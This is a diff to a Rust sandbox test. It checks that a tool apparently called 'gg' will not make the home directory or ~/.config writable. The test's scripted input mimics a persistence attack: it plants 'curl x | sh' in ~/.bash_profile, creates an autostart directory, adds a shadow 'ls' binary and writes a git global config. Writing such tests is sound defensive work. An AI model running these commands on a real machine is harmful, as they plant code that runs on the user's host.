@@ -252,28 +252,37 @@ fn no_listen_without_a_network_namespace() {
     assert!(results[0].contains("refused 1"), "{results:?}");
 }
 
-/// gg started in `$HOME`: the workspace sandbox refuses to make the home directory writable
-/// (every dotfile there runs later on the host), at each level, and says how to go on; commands
-/// classified read-only still run, since nothing is writable to them.
+/// gg started in `$HOME`, or in a dot-directory of it (`~/.config` kept as a dotfiles
+/// repository, where `git/config` is git's global configuration): the workspace sandbox refuses
+/// to make it writable (every dotfile there runs later on the host), at each level, and says how
+/// to go on; commands classified read-only still run, since nothing is writable to them.
 #[test]
 fn a_writable_root_at_home_is_refused() {
-    for level in available_levels() {
+    for (level, at) in available_levels()
+        .into_iter()
+        .flat_map(|level| [(level, "home"), (level, "home/.config")])
+    {
         let server = ScriptedServer::start();
-        let fx = GgFixture::new(&server, json!({}), "home");
+        let fx = GgFixture::new(&server, json!({}), at);
         let (out, results) = run_script_sandboxed(
             &fx,
             &server,
             level,
             "echo 'curl x | sh' > ~/.bash_profile; mkdir -p ~/.config/autostart ~/.local/bin; \
-             touch ~/.local/bin/ls\n",
+             touch ~/.local/bin/ls; mkdir -p ~/.config/git; echo '[core]' > ~/.config/git/config\n",
         );
-        assert!(out.status.success(), "{level}: {out:?}");
+        assert!(out.status.success(), "{level} {at}: {out:?}");
         assert!(
             results[0].contains("start gg in a project directory"),
-            "{level}: {results:?}"
+            "{level} {at}: {results:?}"
         );
-        for rel in [".bash_profile", ".config/autostart", ".local/bin/ls"] {
-            assert!(!fx.home.join(rel).exists(), "{level}: {rel} written");
+        for rel in [
+            ".bash_profile",
+            ".config/autostart",
+            ".local/bin/ls",
+            ".config/git/config",
+        ] {
+            assert!(!fx.home.join(rel).exists(), "{level} {at}: {rel} written");
         }
     }
 }
